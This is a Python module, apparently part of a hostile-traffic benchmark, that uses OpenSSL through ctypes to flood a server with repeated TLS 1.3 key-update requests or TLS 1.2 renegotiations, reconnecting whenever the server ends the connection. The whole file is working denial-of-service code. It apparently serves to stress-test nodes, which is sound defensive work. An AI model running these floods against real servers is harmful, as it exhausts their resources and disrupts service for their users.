"""What a client may send on an established TLS connection beside data: new keys (1.3) and new handshakes (1.2).

Python's ``ssl`` has neither, as no good client needs them, so OpenSSL's library is called itself.
"""

from __future__ import annotations

import contextlib
import ctypes
import socket
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from benchmarks.hostile.attack import Attack, Attacker, Needs
from benchmarks.hostile.connection import Lost

_LIBRARIES: Final = ("libssl.so.3", "libssl.so.1.1", "libssl.so")

_SET_MAXIMUM: Final = 124
"""SSL_CTRL_SET_MAX_PROTO_VERSION."""
_TLS_1_2: Final = 0x0303
_UPDATE_REQUESTED: Final = 1
"""SSL_KEY_UPDATE_REQUESTED: the other side shall change its keys as well."""

_PATIENCE: Final = struct.pack("ll", 1, 0)
"""A second, as a struct timeval: for one call to send or to receive."""

_LOOK: Final = 64
"""Messages between two looks at the clock."""

_KEY_UPDATE_BYTES: Final = 27
"""Of one on the wire: a head, five bytes, the type of the record, a tag."""

_HELLO_BYTES: Final = 250
"""Of a ClientHello in an encrypted record of TLS 1.2, about."""


def _library() -> ctypes.CDLL:
    for name in _LIBRARIES:
        with contextlib.suppress(OSError):
            library = ctypes.CDLL(name)
            library.TLS_client_method.restype = ctypes.c_void_p
            library.SSL_CTX_new.restype = ctypes.c_void_p
            library.SSL_CTX_new.argtypes = [ctypes.c_void_p]
            library.SSL_CTX_free.argtypes = [ctypes.c_void_p]
            library.SSL_CTX_ctrl.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p]
            library.SSL_new.restype = ctypes.c_void_p
            library.SSL_new.argtypes = [ctypes.c_void_p]
            library.SSL_set_fd.argtypes = [ctypes.c_void_p, ctypes.c_int]
            library.SSL_key_update.argtypes = [ctypes.c_void_p, ctypes.c_int]
            for each in ("SSL_connect", "SSL_do_handshake", "SSL_renegotiate", "SSL_free"):
                getattr(library, each).argtypes = [ctypes.c_void_p]
            return library
    raise Lost(f"none of {', '.join(_LIBRARIES)} is installed")


@dataclass(frozen=True, kw_only=True)
class TlsMessages(Attack):
    """The same message again and again, on one connection at a time; anew whenever the node ends it.

    Attributes:
        renegotiates: whether new handshakes are asked for, by TLS 1.2; else new keys, by TLS 1.3.
    """

    renegotiates: bool

    async def run(self, attacker: Attacker, seconds: float) -> None:
        """See ``Attack``."""
        library = _library()
        context = library.SSL_CTX_new(library.TLS_client_method())
        if self.renegotiates:
            library.SSL_CTX_ctrl(context, _SET_MAXIMUM, _TLS_1_2, None)
        attacker.begin(seconds)
        try:
            while not attacker.over:
                try:
                    peer = await attacker.dial()
                except Lost as lost:
                    attacker.effort.refuse(str(lost))
                    continue
                # Its calls wait; nothing else is done meanwhile.
                self._flood(library, context, peer, attacker)
        finally:
            library.SSL_CTX_free(context)

    def _flood(self, library: ctypes.CDLL, context: int, peer: socket.socket, attacker: Attacker) -> None:
        with _established(library, context, peer) as connection:
            if connection is None:
                attacker.effort.refuse("no handshake")
                return
            while not attacker.over:
                for _ in range(_LOOK):
                    if self.renegotiates:
                        asked = library.SSL_renegotiate(connection)
                    else:
                        asked = library.SSL_key_update(connection, _UPDATE_REQUESTED)
                    if asked == 1:
                        attacker.effort.done += 1
                        attacker.effort.sent += _HELLO_BYTES if self.renegotiates else _KEY_UPDATE_BYTES
                    if asked != 1 or library.SSL_do_handshake(connection) != 1:
                        attacker.effort.refuse("ended by the node")
                        return


@contextlib.contextmanager
def _established(library: ctypes.CDLL, context: int, peer: socket.socket) -> Iterator[int | None]:
    """Shake hands over a socket; yields the connection, or None if the node did not."""
    peer.setblocking(True)
    for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
        peer.setsockopt(socket.SOL_SOCKET, option, _PATIENCE)
    connection = library.SSL_new(context)
    try:
        library.SSL_set_fd(connection, peer.fileno())
        yield connection if library.SSL_connect(connection) == 1 else None
    finally:
        library.SSL_free(connection)
        peer.close()


TLS: Final = Needs(tls=True)

ATTACKS: Final = (
    TlsMessages(
        name="tls-key-updates",
        about="new keys of TLS 1.3, 1 connection",
        counts="updates",
        renegotiates=False,
        needs=TLS,
    ),
    TlsMessages(
        name="tls-renegotiation",
        about="new handshakes on a connection of TLS 1.2, 1 connection",
        counts="handshakes asked for",
        renegotiates=True,
        needs=TLS,
    ),
)
